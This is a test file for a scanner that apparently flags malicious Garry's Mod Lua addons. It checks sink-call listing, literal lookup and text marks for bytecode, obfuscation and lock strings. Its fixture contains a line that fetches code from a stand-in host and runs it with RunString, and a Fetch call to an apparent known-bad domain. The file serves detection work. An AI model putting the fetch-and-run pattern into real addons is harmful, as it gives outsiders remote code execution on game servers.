// The run's shared views: sink calls in the analysis' order, literal positions remembered per
// file, and the same findings whether a rule runs alone or inside runRules.
import { describe, expect, it } from 'vitest';
import { analyzeAddon } from '../analysis/index.js';
import { loadThreatIntel } from '../intel/index.js';
import { runRules } from './index.js';
import { rule as runstring } from './runstring.js';
import { addonOf } from './ruleTesting.js';
import { SharedViews, TEXT_MARKS } from './shared.js';

const intel = loadThreatIntel();

describe('SharedViews', () => {
  const analysis = analyzeAddon(
    addonOf({
      'lua/autorun/server/sv_x.lua': [
        'print("hello")',
        'http.Fetch("https://x.invalid/p", function(body) RunString(body) end)',
        'game.ConsoleCommand("say hi\\n")',
      ].join('\n'),
    }),
    { intel },
  );
  it('lists only sink calls, in order, with their kinds', () => {
    const sinks = new SharedViews(analysis, intel).sinkCalls();
    expect(sinks.map((s) => s.ev.api)).toEqual(
      analysis.calls
        .map((c) => c.api)
        .filter((api) => api === 'RunString' || api === 'game.ConsoleCommand'),
    );
    expect(sinks.find((s) => s.ev.api === 'RunString')?.exec).toBe(true);
    expect(sinks.find((s) => s.ev.api === 'game.ConsoleCommand')?.console).toBe(true);
  });
  it('gives the calls of the APIs asked for, in the order of the analysis', () => {
    const views = new SharedViews(analysis, intel);
    const wanted = new Set(['print', 'RunString', 'game.ConsoleCommand']);
    expect(views.callsWhere((api) => wanted.has(api))).toEqual(
      analysis.calls.filter((c) => wanted.has(c.api)),
    );
    expect(views.callsWhere(() => false)).toEqual([]);
  });
  it('finds every position of a literal, overlapping ones too, and remembers them', () => {
    const views = new SharedViews(analysis, intel);
    const file = { text: 'aaaa' };
    const first = views.positionsOf(file, 'aa');
    expect(first).toEqual([0, 1, 2]);
    expect(views.positionsOf(file, 'aa')).toBe(first);
    expect(views.positionsOf(file, 'b')).toEqual([]);
  });
  it("marks the rules' literals in a file's text, in any case, from one pass", () => {
    const views = new SharedViews(analysis, intel);
    const file = { text: 'local s = string.char(72) .. String.Dump(f) .. msg.dump' };
    expect(views.textMarks(file)).toBe(TEXT_MARKS.bytecode | TEXT_MARKS.stringChar);
    expect(views.textMarks({ text: 'local b = "\\27LJ\\2"' })).toBe(TEXT_MARKS.bytecode);
    expect(views.textMarks({ text: '--' + String.fromCharCode(27) + 'LJ' })).toBe(
      TEXT_MARKS.bytecode,
    );
    expect(views.textMarks({ text: 'string .char(1) msg.dump(x) LJ' })).toBe(0);
    expect(views.textMarks({ text: `if _G.x == 'LOCK' then` })).toBe(TEXT_MARKS.lock);
    expect(views.textMarks({ text: `_G["x"]="lock'` })).toBe(TEXT_MARKS.lock);
    expect(views.textMarks({ text: `local lock = "block" -- unlock'` })).toBe(0);
    expect(views.textMarks({ text: 'http.Fetch("https://kvac.cz/x")' }) & TEXT_MARKS.ioc).toBe(
      TEXT_MARKS.ioc,
    );
  });
  it('gives a rule the same findings alone and inside runRules', () => {
    const alone = runstring.check({ analysis, intel });
    expect(alone.length).toBeGreaterThan(0);
    const inRun = runRules(analysis, intel).filter((f) => f.ruleId === 'runstring');
    expect(inRun).toEqual(alone);
  });
});
